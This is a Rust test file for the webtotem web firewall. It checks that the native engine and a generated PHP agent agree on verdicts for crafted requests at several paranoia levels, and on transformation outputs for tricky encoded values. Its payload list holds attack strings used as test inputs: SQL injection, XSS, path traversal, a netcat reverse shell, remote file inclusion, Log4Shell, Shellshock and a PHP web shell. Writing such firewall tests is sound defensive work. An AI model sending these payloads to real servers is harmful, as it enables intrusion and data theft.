//! Parity of the firewall's two engines: the native engine (in this
//! process) and the generated PHP agent's PCRE twin (run by real PHP,
//! `tests/php/tools/waf-twin.php`) must give the same verdict on every
//! request, and the same output for every transformation.

#[path = "common/waf_corpora.rs"]
mod waf_corpora;

use serde_json::{Value, json};
use std::io::Write;
use std::path::{Path, PathBuf};
use std::process::Command;
use webtotem::agent::{FirewallAgentConfig, render_firewall_agent};
use webtotem::firewall::transform::ALL as TRANSFORMS;
use webtotem::firewall::{Options, Request, inspect};
use webtotem::wire::Tree;

/// A small deterministic generator (xorshift64*), so failures reproduce.
struct Rng(u64);

impl Rng {
    fn next(&mut self) -> u64 {
        self.0 ^= self.0 >> 12;
        self.0 ^= self.0 << 25;
        self.0 ^= self.0 >> 27;
        self.0.wrapping_mul(0x2545_F491_4F6C_DD1D)
    }
    fn below(&mut self, n: usize) -> usize {
        (self.next() % n as u64) as usize
    }
    fn pick<'a, T>(&mut self, items: &'a [T]) -> &'a T {
        &items[self.below(items.len())]
    }
}

fn wire(bytes: &[u8]) -> Value {
    match std::str::from_utf8(bytes) {
        Ok(s) => json!(s),
        Err(_) => {
            use base64::Engine as _;
            json!({"base64": base64::engine::general_purpose::STANDARD.encode(bytes)})
        }
    }
}

fn tree_json(tree: &Tree) -> Value {
    match tree {
        Tree::Str(s) => wire(s),
        Tree::Map(entries) => Value::Object(
            entries
                .iter()
                .map(|(k, v)| (String::from_utf8_lossy(k).into_owned(), tree_json(v)))
                .collect(),
        ),
    }
}

fn request_json(r: &Request) -> Value {
    let mut headers = serde_json::Map::new();
    for (name, value) in &r.headers {
        let name = String::from_utf8_lossy(name).into_owned();
        let list = headers.entry(name).or_insert_with(|| json!([]));
        list.as_array_mut().unwrap().push(wire(value));
    }
    let mut item = json!({
        "method": wire(&r.method),
        "uri": wire(&r.uri),
        "headers": headers,
        "body": wire(&r.body),
    });
    for (key, tree) in [
        ("query", &r.query),
        ("cookies", &r.cookies),
        ("post", &r.post),
    ] {
        if let Some(tree) = tree {
            item[key] = tree_json(tree);
        }
    }
    item
}

fn agent(dir: &Path, paranoia: u8) -> PathBuf {
    let config: FirewallAgentConfig = serde_json::from_value(json!({
        "site_key": "ab".repeat(32),
        "state_dir_name": "wt-parity-state",
        "paranoia": paranoia,
    }))
    .unwrap();
    let path = dir.join(format!("agent-{paranoia}.php"));
    std::fs::write(&path, render_firewall_agent(&config).unwrap()).unwrap();
    path
}

/// Runs the twin over `items` (JSON lines); its answers, one per item.
fn run_twin(agent: &Path, mode: &str, items: &[Value]) -> Option<Vec<Value>> {
    let dir = agent.parent().unwrap();
    let input = dir.join(format!("{mode}.jsonl"));
    let mut file = std::fs::File::create(&input).unwrap();
    for item in items {
        writeln!(file, "{item}").unwrap();
    }
    drop(file);
    let script = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/php/tools/waf-twin.php");
    let out = match Command::new("php")
        .args(["-n", "-d", "memory_limit=1G", "-d", "pcre.jit=1"])
        .arg(&script)
        .arg(agent)
        .arg(mode)
        .arg(&input)
        .output()
    {
        Ok(out) => out,
        Err(_) if std::env::var_os("WEBTOTEM_REAL_CODE").is_none() => {
            eprintln!("php is not installed: parity not checked");
            return None;
        }
        Err(e) => panic!("php: {e}"),
    };
    assert!(
        out.status.success(),
        "the twin failed: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    let answers: Vec<Value> = String::from_utf8(out.stdout)
        .unwrap()
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    assert_eq!(answers.len(), items.len());
    Some(answers)
}

/// Values that exercise every corner of the transformations.
fn tricky_values(rng: &mut Rng) -> Vec<Vec<u8>> {
    let mut values: Vec<Vec<u8>> = [
        "",
        "%",
        "%2",
        "%zz",
        "%252527",
        "%u0041%uFF1C%uD800%u12",
        "a+b%2Bc",
        "&lt;&LT;&ltx;&lt",
        "&#60;&#x3C;&#X3c;&#0000060;&#;&#x;&#1114112;&#xD800;&#233;",
        "&colon &colon; &nbsp; &Tab;",
        r"\x3c\u0061\uD800\'\\\n\t\q\",
        "/*!50000union*/ /**/ */ /* open",
        "a \t\n\x0b\x0c\r b",
        r"..\..\\a//b/./c/././d/.",
        "c\\a\"t ^/e't'c;, x (y) /z",
        "AbC\0dEf\u{e9}",
    ]
    .iter()
    .map(|s| s.as_bytes().to_vec())
    .collect();
    let alphabet: &[&[u8]] = &[
        b"%",
        b"+",
        b"&",
        b"#",
        b";",
        b"x",
        b"X",
        b"u",
        b"U",
        b"\\",
        b"/",
        b"*",
        b"!",
        b"0",
        b"3",
        b"9",
        b"a",
        b"c",
        b"F",
        b"e",
        b" ",
        b"\t",
        b"\n",
        b"\x0b",
        b"\0",
        b"\xff",
        b"\xc3\xa9",
        b"'",
        b"\"",
        b"^",
        b",",
        b"(",
        b".",
        b"lt",
        b"amp",
        b"colon",
        b"D8",
        b"FF1",
        b"%u",
        b"&#",
        b"/*",
        b"*/",
        b"/*!",
        b"%2",
        b"%25",
    ];
    for _ in 0..3000 {
        let len = rng.below(24);
        let mut v = Vec::new();
        for _ in 0..len {
            let piece: &&[u8] = rng.pick(alphabet);
            v.extend_from_slice(piece);
        }
        values.push(v);
    }
    values
}

#[test]
fn transformations_agree() {
    let dir = tempfile::tempdir().unwrap();
    let agent = agent(dir.path(), 1);
    let mut rng = Rng(0x5eed_1234_abcd_ef01);
    let values = tricky_values(&mut rng);
    let mut items = Vec::new();
    let mut expected = Vec::new();
    for (t, name) in TRANSFORMS {
        for v in &values {
            items.push(json!({"transform": name, "value": wire(v)}));
            expected.push((name, v.clone(), t.apply(v).into_owned()));
        }
    }
    let Some(answers) = run_twin(&agent, "transform", &items) else {
        return;
    };
    let mut mismatches = Vec::new();
    for ((name, input, native), answer) in expected.iter().zip(&answers) {
        let twin = wire(native);
        if answer["value"] != twin {
            mismatches.push(format!(
                "{name}({:?}): native {:?}, PHP {}",
                String::from_utf8_lossy(input),
                String::from_utf8_lossy(native),
                answer["value"]
            ));
        }
    }
    assert!(
        mismatches.is_empty(),
        "{} of {} differ:\n{}",
        mismatches.len(),
        items.len(),
        mismatches[..mismatches.len().min(20)].join("\n")
    );
}

/// The agent skips the transformations its `changes()` leaves out of a
/// value's mask, so each of them must leave that value as it is (or only
/// lower-case it): checked against the native transformations.
#[test]
fn transformations_changes_leaves_out_leave_values_as_they_are() {
    let dir = tempfile::tempdir().unwrap();
    let agent = agent(dir.path(), 1);
    let mut rng = Rng(0x0c4a_9e5b_17d3_2f60);
    let mut values = tricky_values(&mut rng);
    for v in [
        "a//b",
        "a/./b",
        "a/.",
        "a/b/c",
        "a /b",
        "a (b",
        "a  b",
        "a\tb",
        "/*x",
        "x*/",
        "a*b",
        "A;B",
        "a,b",
        "x\\y",
        "%41",
        "a+b",
        "&amp;",
        "a\0b",
        "Plain-Value_1.2",
        "",
    ] {
        values.push(v.as_bytes().to_vec());
    }
    let items: Vec<Value> = values.iter().map(|v| json!({"value": wire(v)})).collect();
    let Some(answers) = run_twin(&agent, "changes", &items) else {
        return;
    };
    let mut wrong = Vec::new();
    let mut skipped = 0;
    for (v, answer) in values.iter().zip(&answers) {
        let mask = answer["changes"].as_u64().unwrap();
        for (t, name) in TRANSFORMS {
            let bit = answer["bits"][name].as_u64().unwrap();
            if bit == 0 || mask & bit != 0 {
                continue;
            }
            skipped += 1;
            let out = t.apply(v);
            if *out != **v && *out != v.to_ascii_lowercase() {
                wrong.push(format!(
                    "{name}({:?}) = {:?}, but changes() says it leaves it",
                    String::from_utf8_lossy(v),
                    String::from_utf8_lossy(&out)
                ));
            }
        }
    }
    assert!(
        skipped > values.len(),
        "changes() left out too little to check"
    );
    assert!(
        wrong.is_empty(),
        "{}",
        wrong[..wrong.len().min(20)].join("\n")
    );
}

/// Payloads placed into many parts of a request in many encodings.
fn crafted_requests(rng: &mut Rng) -> Vec<Request> {
    let payloads: &[&str] = &[
        "1' OR '1'='1",
        "1 UNION/**/SELECT password FROM users--",
        "x\" onmouseover=\"alert(1)",
        "<script>alert(document.cookie)</script>",
        "javascript&colon;alert(1)",
        "../../../../etc/passwd",
        "..\\..\\windows\\win.ini",
        ";cat /etc/passwd",
        "| nc -e /bin/sh 10.0.0.1 4444",
        "c\\a't /etc/shadow",
        "<?php system($_GET['c']); ?>",
        "O:8:\"stdClass\":0:{}",
        "{{7*7}}",
        "${jndi:ldap://x.example/a}",
        "() { :; }; /bin/bash -c id",
        "http://203.0.113.9/shell.txt?",
        "php://filter/convert.base64-encode/resource=index",
        "O'Brien",
        "select the best union of flavours",
        "<p>Hello <a href=\"/about\">world</a></p>",
        "/wp-content/uploads/2026/12/photo.jpg",
        "SELECT",
        "alert",
        "%27%20or%201%3D1--",
        "%253Cscript%253E",
        "&#x3C;svg onload=alert(1)&#x3E;",
        "\\x3cscript\\x3e",
        "%uFF1Cscript%uFF1E",
        "a\0b",
        "\u{e9}t\u{e9}",
    ];
    let encode = |rng: &mut Rng, s: &str| -> String {
        match rng.below(4) {
            0 => s.to_string(),
            1 => s
                .bytes()
                .map(|b| {
                    if b.is_ascii_alphanumeric() {
                        (b as char).to_string()
                    } else {
                        format!("%{b:02X}")
                    }
                })
                .collect(),
            2 => s.replace(' ', "+").replace('\'', "%27").replace('<', "%3C"),
            _ => s.bytes().map(|b| format!("%{b:02x}")).collect(),
        }
    };
    let mut out = Vec::new();
    for i in 0..1500 {
        let p = *rng.pick(payloads);
        let q = *rng.pick(payloads);
        let mut r = Request {
            method: rng.pick(&[&b"GET"[..], b"POST", b"PUT", b"TRACE"]).to_vec(),
            uri: format!("/shop/item.php?id={}&q={}", encode(rng, p), encode(rng, q)).into_bytes(),
            headers: vec![
                (b"host".to_vec(), b"shop.example".to_vec()),
                (
                    b"user-agent".to_vec(),
                    rng.pick(&[&b"Mozilla/5.0"[..], b"sqlmap/1.7", b"() { :; }; echo"])
                        .to_vec(),
                ),
            ],
            ..Request::default()
        };
        match i % 6 {
            0 => {}
            1 => {
                r.headers.push((
                    b"content-type".to_vec(),
                    b"application/x-www-form-urlencoded".to_vec(),
                ));
                r.body = format!("name={}&comment={}", encode(rng, p), encode(rng, q)).into_bytes();
            }
            2 => {
                r.headers.push((
                    b"content-type".to_vec(),
                    b"application/json; charset=utf-8".to_vec(),
                ));
                r.body = serde_json::to_vec(
                    &json!({"user": {"name": p, "tags": [q, 1, true, null]}, p: q}),
                )
                .unwrap();
            }
            3 => {
                r.headers.push((
                    b"content-type".to_vec(),
                    b"multipart/form-data; boundary=----WebKitFormBoundary7MA4YWxk".to_vec(),
                ));
                r.body = format!(
                    "------WebKitFormBoundary7MA4YWxk\r\nContent-Disposition: form-data; name=\"title\"\r\n\r\n{p}\r\n\
                     ------WebKitFormBoundary7MA4YWxk\r\nContent-Disposition: form-data; name=\"up\"; filename=\"{q}\"\r\n\
                     Content-Type: image/png\r\n\r\n\u{89}PNG\r\n------WebKitFormBoundary7MA4YWxk--\r\n"
                )
                .into_bytes();
            }
            4 => r.headers.push((
                b"cookie".to_vec(),
                format!("sid=abc; pref={}", encode(rng, p)).into_bytes(),
            )),
            _ => {
                r.headers.push((b"referer".to_vec(), p.as_bytes().to_vec()));
                r.headers
                    .push((b"content-type".to_vec(), b"text/xml".to_vec()));
                r.body = format!("<a>{q}</a>").into_bytes();
            }
        }
        out.push(r);
    }
    out
}

fn verdict_json(v: &webtotem::firewall::Verdict) -> Value {
    json!({"blocked": v.blocked, "score": v.score, "class": v.class, "rules": v.rules, "truncated": v.truncated})
}

fn check_requests(requests: &[Request], paranoia: u8) {
    let dir = tempfile::tempdir().unwrap();
    let agent = agent(dir.path(), paranoia);
    let options = Options {
        paranoia,
        ..Options::default()
    };
    let items: Vec<Value> = requests.iter().map(request_json).collect();
    let Some(answers) = run_twin(&agent, "inspect", &items) else {
        return;
    };
    let mut mismatches = Vec::new();
    for ((request, item), answer) in requests.iter().zip(&items).zip(&answers) {
        let native = verdict_json(&inspect(request, &options));
        if *answer != native {
            mismatches.push(format!("{item}\n  native {native}\n  PHP    {answer}"));
        }
    }
    assert!(
        mismatches.is_empty(),
        "paranoia {paranoia}: {} of {} differ:\n{}",
        mismatches.len(),
        requests.len(),
        mismatches[..mismatches.len().min(10)].join("\n")
    );
}

#[test]
fn verdicts_agree_on_crafted_requests_at_every_paranoia_level() {
    let mut rng = Rng(0xfeed_beef_0bad_cafe);
    let requests = crafted_requests(&mut rng);
    let blocked = requests
        .iter()
        .filter(|r| inspect(r, &Options::default()).blocked)
        .count();
    assert!(
        blocked > requests.len() / 3 && blocked < requests.len(),
        "{blocked}"
    );
    for paranoia in [1, 4] {
        check_requests(&requests, paranoia);
    }
}

/// Requests at the engines' limits (4,096 inputs, 64 KiB a value), whose
/// fields are listed by the twin's shortcuts for fields within every limit
/// and by its general path beyond them: parsed trees, a query string and
/// headers, with an attack past the limits and one within them.
#[test]
fn verdicts_agree_at_the_input_limits() {
    let attack = b"1 UNION SELECT password FROM users".to_vec();
    let long = |n: usize| [b"a ".repeat(n / 2), attack.clone()].concat();
    let fields = |n: usize, value: &dyn Fn(usize) -> Vec<u8>| -> Tree {
        Tree::Map(
            (0..n)
                .map(|i| (format!("f{i}").into_bytes(), Tree::Str(value(i))))
                .collect(),
        )
    };
    let mut requests = Vec::new();
    for n in [2046, 2047, 2048, 2100] {
        // The attack in the last field: listed or not, depending on n.
        let last = |i: usize| {
            if i + 1 == n {
                attack.clone()
            } else {
                b"x".to_vec()
            }
        };
        requests.push(Request {
            method: b"GET".to_vec(),
            uri: b"/".to_vec(),
            query: Some(fields(n, &last)),
            ..Request::default()
        });
        let query: Vec<String> = (0..n)
            .map(|i| {
                format!(
                    "f{i}={}",
                    if i + 1 == n {
                        "1%20UNION%20SELECT%20password%20FROM%20users"
                    } else {
                        "x"
                    }
                )
            })
            .collect();
        requests.push(Request {
            method: b"GET".to_vec(),
            uri: format!("/?{}", query.join("&")).into_bytes(),
            ..Request::default()
        });
    }
    for size in [65_534, 65_536, 65_600, 200_000] {
        // Past 64 KiB the attack at the end is cut off.
        requests.push(Request {
            method: b"GET".to_vec(),
            uri: b"/".to_vec(),
            query: Some(fields(3, &|_| long(size))),
            cookies: Some(Tree::Map(vec![(b"c".to_vec(), Tree::Str(long(size)))])),
            ..Request::default()
        });
        requests.push(Request {
            method: b"GET".to_vec(),
            uri: b"/".to_vec(),
            headers: vec![
                (b"x-note".to_vec(), long(size)),
                (b"user-agent".to_vec(), long(size)),
            ],
            ..Request::default()
        });
        let name = [b"n".repeat(size), attack.clone()].concat();
        requests.push(Request {
            method: b"GET".to_vec(),
            uri: b"/".to_vec(),
            query: Some(Tree::Map(vec![(name, Tree::Str(b"x".to_vec()))])),
            ..Request::default()
        });
    }
    let truncated = requests
        .iter()
        .filter(|r| inspect(r, &Options::default()).truncated)
        .count();
    assert!(truncated > 0 && truncated < requests.len(), "{truncated}");
    check_requests(&requests, 1);
}

/// The team's corpus, every CRS regression request and every tenth CSIC
/// 2010 request (the third-party ones when they are there, see
/// `waf_corpora::load_third_party`), at paranoia 1 and 4.
#[test]
fn verdicts_agree_on_the_corpora() {
    let mut requests: Vec<Request> = waf_corpora::team_corpus()
        .unwrap()
        .into_iter()
        .map(|e| e.request)
        .collect();
    let team = requests.len();
    if let Some((stages, normal)) = waf_corpora::load_third_party() {
        requests.extend(stages.into_iter().map(|s| s.request));
        requests.extend(normal.into_iter().step_by(10));
    }
    assert!(team > 100, "{team}");
    for paranoia in [1, 4] {
        check_requests(&requests, paranoia);
    }
}
